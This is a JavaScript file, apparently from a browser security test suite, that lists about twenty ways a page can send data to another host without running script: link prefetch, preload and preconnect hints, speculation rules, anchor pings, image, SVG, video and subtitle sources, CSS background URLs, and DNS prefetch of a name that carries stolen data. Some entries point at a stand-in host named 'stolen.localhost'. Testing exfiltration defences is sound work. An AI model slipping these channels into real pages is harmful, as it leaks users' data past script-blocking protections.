// Ways to send something elsewhere that need no script to run them: links and hints.

Object.assign(attacks, {
  "prefetch": (at) => link({ rel: "prefetch", href: `${at}prefetch` }),
  "preload": (at) => link({ rel: "preload", as: "fetch", crossOrigin: "anonymous", href: `${at}preload` }),
  "module preload": (at) => link({ rel: "modulepreload", href: `${at}modulepreload` }),
  "preconnect": (at) => link({ rel: "preconnect", href: at }),
  "preconnect by a name": (at, port) => link({ rel: "preconnect", href: `http://stolen.localhost:${port}/` }),
  "prerender": (at) => link({ rel: "prerender", href: `${at}prerender` }),
  "web manifest": (at) => link({ rel: "manifest", href: `${at}manifest` }),
  "icon": (at) => link({ rel: "icon", href: `${at}icon` }),
  "speculation rules": (at) => {
    const rules = { prefetch: [{ source: "list", urls: [`${at}speculation`] }] };
    add("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
  },
  "ping of a link": (at) => add("a", { href: "#here", ping: `${at}ping`, textContent: "ping" }).click(),
  "download link": (at) => add("a", { href: `${at}download?stolen`, download: "x.txt", textContent: "load" }).click(),
  "link into a new window": (at) => add("a", { href: `${at}anchor`, target: "_blank", textContent: "go" }).click(),
  "image by markup": (at) => markup(`<img src="${at}markup">`),
  "picture in SVG": (at) => markup(`<svg><image href="${at}svg" width="9" height="9"/></svg>`),
  "image button": (at) => markup(`<form><input type="image" src="${at}button"></form>`),
  "poster of a video": (at) => markup(`<video poster="${at}poster"></video>`),
  "subtitles": (at) => markup(`<video controls><track default src="${at}track"></video>`),
  "background by attribute": (at) => document.body.setAttribute("background", `${at}attribute`),
  "inline style": (at) => markup(`<p style="background: url(${at}inline)">.</p><style>p { background: url(${at}sheet) }</style>`),
});

/** Puts a link into the head, as if it had been written there. */
function link(properties) {
  add("link", properties, document.head);
}

function markup(text) {
  document.body.insertAdjacentHTML("beforeend", text);
}

/** Asks for a name's address ahead of time: the name itself can carry what was stolen to whoever serves its zone. */
function lookUp(name) {
  link({ rel: "dns-prefetch", href: `http://${name}/` });
}
